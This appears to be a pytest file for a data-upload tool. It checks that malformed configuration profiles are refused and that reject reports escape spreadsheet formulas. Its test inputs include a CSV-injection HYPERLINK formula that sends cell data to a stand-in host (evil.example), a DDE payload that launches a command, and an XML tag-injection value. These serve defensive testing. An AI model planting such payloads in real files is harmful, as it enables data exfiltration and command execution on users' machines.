"""Bad-input corpus, entry points (issue 10 §6): a profile, a rendered business_date, the monitor's query
parameters, and ledger text that a spreadsheet would run as a formula.

Same style as ``test_bad_input_corpus.py``: the exact message is asserted, whole-input errors stop before
anything is sent (``simulator.requests == 0``), and no row is lost from a report.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
import sys
import tomllib
from collections.abc import Callable
from datetime import datetime
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from cdyb_jxc.cli import main as cli_main
from cdyb_jxc.exceptions import ProfileError
from cdyb_jxc.ledger import REJECTED, Ledger
from cdyb_jxc.safety.spreadsheet import FORMULA_STARTS
from cdyb_jxc.upload.engine import Uploader
from cdyb_jxc.upload.reports import SOURCE_ISSUE, write_reject_report
from cdyb_jxc.wire.client import CentreClient
from cdyb_jxc.wire.profile import PROFILE_ENV_VAR, parse_profile
from tests.conftest import INSTITUTION, SECRET, USER, outbound_row, write_csv

DEFAULT_TEXT = resources.files("cdyb_jxc").joinpath("data/default_profile.toml").read_text(encoding="utf-8")
_DEFAULT_RAW = tomllib.loads(DEFAULT_TEXT)
HOLD = "must hold every GBK character in two bytes (GBK or GB18030)"


def _cli_error(err: str) -> str:
    lines = [line for line in err.splitlines() if line.startswith("cdyb-jxc: ")]
    assert len(lines) == 1, err
    return lines[0]


def _conn_env(monkeypatch: pytest.MonkeyPatch, host: str, **extra: Any) -> dict[str, str]:
    conn = {
        "conn_type": "cdyb_jxc",
        "host": host,
        "login": USER,
        "password": SECRET,
        "extra": {"institution_code": INSTITUTION, "environment": "test", "timeout": 3, **extra},
    }
    monkeypatch.setenv("AIRFLOW_CONN_CDYB_JXC_DEFAULT", json.dumps(conn))
    return {"AIRFLOW_CONN_CDYB_JXC_DEFAULT": json.dumps(conn)}


# ---------------------------------------------------------------------------------------------------------
# 1. a profile validated completely at load
# ---------------------------------------------------------------------------------------------------------


def _edit(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(raw: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node: Any = raw
        for part in parents:
            node = node[int(part)] if part.isdigit() else node[part]
        node[int(last) if last.isdigit() else last] = value

    return edit


ENTRY_PROFILE_CASES = [
    pytest.param(
        _edit("service.inner_encoding", "latin-1"),
        f"profile key service.inner_encoding {HOLD}, not 'latin-1'",
        id="inner-encoding-latin-1",
    ),
    pytest.param(
        _edit("service.inner_encoding", "utf-8"),
        f"profile key service.inner_encoding {HOLD}, not 'utf-8'",
        id="inner-encoding-utf-8",
    ),
    pytest.param(
        _edit("service.inner_encoding", "klingon"),
        "profile key service.inner_encoding names an unknown encoding 'klingon'",
        id="inner-encoding-unknown",
    ),
    pytest.param(
        _edit("service.accepted_inner_encodings", ["GBK", "GB2313"]),
        "profile key service.accepted_inner_encodings[1] names an unknown encoding 'GB2313'",
        id="accepted-encoding-unknown",
    ),
    pytest.param(
        _edit("request.root", "input><evil/"),
        "profile key request.root must be an XML name (ASCII letters, digits, '_', '-', '.', not starting "
        "with a digit, '-' or '.'; at most 64), not 'input><evil/'",
        id="request-tag-not-xml",
    ),
    pytest.param(
        _edit("fields.lot_no.tag", "scph:x"),
        "profile key fields.lot_no.tag must be an XML name (ASCII letters, digits, '_', '-', '.', not "
        "starting with a digit, '-' or '.'; at most 64), not 'scph:x'",
        id="field-tag-with-colon",
    ),
    pytest.param(
        _edit("service.batch_limit", 10**12),
        "profile key service.batch_limit must be between 1 and 10000, not 1000000000000",
        id="batch-limit-huge",
    ),
    pytest.param(
        _edit("service.timezone_offset_hours", -100),
        "profile key service.timezone_offset_hours must be between -12 and 14, not -100",
        id="timezone-out-of-range",
    ),
    pytest.param(
        _edit("fields.quantity.min_exclusive", float("nan")),
        "profile key fields.quantity.min_exclusive must be a finite number below 10^38, not NaN",
        id="min-nan",
    ),
    pytest.param(
        _edit("categories.duplicate", ""),
        "profile key categories.duplicate must not be empty",
        id="empty-category",
    ),
]


@pytest.mark.parametrize(("edit", "message"), ENTRY_PROFILE_CASES)
def test_profile_entry_names_the_bad_key(edit, message):
    raw = copy.deepcopy(_DEFAULT_RAW)
    edit(raw)
    with pytest.raises(ProfileError) as info:
        parse_profile(raw, "custom.toml")
    assert str(info.value) == message


def _profile_file(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


PROFILE_FILE_CASES = [
    pytest.param(
        lambda: DEFAULT_TEXT.replace('inner_encoding = "GBK"', 'inner_encoding = "latin-1"'),
        f"profile key service.inner_encoding {HOLD}, not 'latin-1'",
        id="latin-1",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT.replace('tag = "yka105"', 'tag = "yka 105"'),
        "profile key fields.serial_no.tag must be an XML name (ASCII letters, digits, '_', '-', '.', not "
        "starting with a digit, '-' or '.'; at most 64), not 'yka 105'",
        id="bad-tag",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT + "\nx = " + "[" * 3000 + "]" * 3000 + "\n",
        "profile file {path} nests lists or tables 3000 deep at line 349 (at most 32)",
        id="deep-nesting",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT + "\n# " + "x" * (2 * 1024 * 1024) + "\n",
        "profile file {path} is larger than 1048576 bytes",
        id="too-large",
    ),
    # a misspelt key is refused, never ignored in favour of the default (issue 10 re-attack)
    pytest.param(
        lambda: DEFAULT_TEXT + "\n[servce]\nbatch_limit = 10\n",
        "profile key servce is not a known setting",
        id="unknown-table",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT.replace("batch_limit = 100", "batch_limit = 100\nbatch_limt = 10"),
        "profile key service.batch_limt is not a known setting",
        id="misspelt-setting",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT.replace('success = "1"', 'success = " 1"'),
        "profile key return_codes.success must not start or end with whitespace: ' 1'",
        id="padded-return-code",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT.replace('when = { split_flag = "1" }', 'when = { split_flag = "9" }', 1),
        "profile key transactions.init: pack_ratio.when.split_flag is '9', not a code of split_flag (0, 1)",
        id="impossible-condition",
    ),
    pytest.param(
        lambda: DEFAULT_TEXT.replace("profile_version = 1", "profile_version = 2"),
        "profile key profile_version must be 1, not 2",
        id="profile-version",
    ),
]


@pytest.mark.parametrize(("text", "message"), PROFILE_FILE_CASES)
@pytest.mark.parametrize("named_by", ["env", "extra"])
def test_cli_with_a_bad_profile_exits_2_before_sending(
    simulator, tmp_path, monkeypatch, capsys, text, message, named_by
):
    """``CDYB_JXC_PROFILE`` or the connection extra ``profile``: one line, exit 2, nothing sent."""
    path = _profile_file(tmp_path, f"bad-{named_by}.toml", text())
    if named_by == "env":
        monkeypatch.setenv(PROFILE_ENV_VAR, str(path))
        _conn_env(monkeypatch, simulator.url)
    else:
        monkeypatch.delenv(PROFILE_ENV_VAR, raising=False)
        _conn_env(monkeypatch, simulator.url, profile=str(path))
    src = write_csv(tmp_path / "out.csv", [outbound_row("CK1")])
    capsys.readouterr()
    code = cli_main(
        ["upload", "--transaction", "outbound", "--file", str(src), "--ledger",
         f"sqlite:///{tmp_path / 'ledger.db'}", "--no-progress"]
    )  # fmt: skip
    _, err = capsys.readouterr()
    assert code == 2
    assert _cli_error(err) == "cdyb-jxc: " + message.format(path=path)
    assert "Traceback" not in err
    assert simulator.requests == 0


def test_cli_process_with_a_latin_1_profile_exits_2(simulator, tmp_path, monkeypatch):
    """As a real process, the way the operations team runs it."""
    path = _profile_file(
        tmp_path, "latin1.toml", DEFAULT_TEXT.replace('inner_encoding = "GBK"', 'inner_encoding = "latin-1"')
    )
    env = _conn_env(monkeypatch, simulator.url)
    src = write_csv(tmp_path / "out.csv", [outbound_row("CK1")])
    import os

    out = subprocess.run(
        [sys.executable, "-m", "cdyb_jxc", "upload", "--transaction", "outbound", "--file", str(src),
         "--ledger", f"sqlite:///{tmp_path / 'ledger.db'}"],
        capture_output=True, text=True, timeout=180, env={**os.environ, **env, PROFILE_ENV_VAR: str(path)},
    )  # fmt: skip
    assert out.returncode == 2, out.stderr
    assert _cli_error(out.stderr) == f"cdyb-jxc: profile key service.inner_encoding {HOLD}, not 'latin-1'"
    assert "Traceback" not in out.stderr
    assert simulator.requests == 0


# ---------------------------------------------------------------------------------------------------------
# 2. ledger text a spreadsheet would run: every report cell is text, never a formula
# ---------------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
DAY = "2026-11-20"


def _inserted(text: str, i: int) -> dict[str, Any]:
    now = datetime(2026, 11, 21, 1, 0)
    return {
        "institution_code": INSTITUTION,
        "serial_no": f"CK-LEDGER-{i}",
        "transaction_code": "JXC003",
        "business_date": DAY,
        "mapping_serial_no": text,
        "item_name": text,
        "payload_hash": "0" * 64,
        "state": REJECTED,
        "category": text,
        "field": text,
        "detail": text,
        "attempts": 2,
        "held_back": 0,
        "first_seen_at": now,
        "updated_at": now,
    }


def test_reject_report_holds_no_live_formula(profile, simulator, tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    client = CentreClient(
        profile, endpoint=simulator.url, user=USER, verification_code=SECRET, institution_code=INSTITUTION
    )
    # rejected for real (quantity 0 is held back) with a 流水号 and an item name that start like formulas
    rows = [
        outbound_row(f"{text[0]}CK{i}", hospital_item_name=text, quantity="0")
        for i, text in enumerate(FORMULAS)
    ]
    Uploader(
        profile=profile, txn_key="outbound", institution_code=INSTITUTION, sender=client, ledger=ledger,
        resend_attempts=0,
    ).run([[*rows, outbound_row("")]])  # fmt: skip
    # reasons and fields from a hostile centre, and tab / CR starts, straight into the ledger
    texts = [*FORMULAS, "\t=1+1", "\r=1+1"]
    ledger.insert_rows([_inserted(text, i) for i, text in enumerate(texts)])
    report = write_reject_report(ledger, INSTITUTION, [DAY], tmp_path / "reports", "rejects")
    serials = {r["serial_no"] for r in rows} | {f"CK-LEDGER-{i}" for i in range(len(texts))}
    assert report.rows == len(serials) + 1  # and the source issue of the row without 流水号

    with open(report.csv_path, encoding="utf-8-sig", newline="") as fh:
        records = list(csv.DictReader(fh))
    for record in records:
        for column, value in record.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    shown = {r["流水号 serial_no"] for r in records}
    assert shown >= {"'" + s for s in serials if s.startswith(FORMULA_STARTS)} | {
        s for s in serials if s[0] == "C"
    }
    assert {r["状态 state"] for r in records} == {REJECTED, SOURCE_ISSUE}
    assert {r["发送次数 attempts"] for r in records} == {"0", "2"}  # numbers are written as numbers

    book = load_workbook(report.excel_path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {row[4].value for row in book.active.iter_rows(min_row=2)}
    assert names >= set(texts)  # the exact text, kept as string cells
    ledger.dispose()


def test_csv_report_quotes_a_formula_the_owasp_way(tmp_path):
    ledger = Ledger(f"sqlite:///{tmp_path / 'ledger.db'}")
    ledger.insert_rows([_inserted("=1+1", 0)])
    report = write_reject_report(ledger, INSTITUTION, [DAY], tmp_path, "r")
    text = report.csv_path.read_text(encoding="utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert row[0] == "CK-LEDGER-0"
    assert row[4] == row[7] == "'=1+1"
    ledger.dispose()
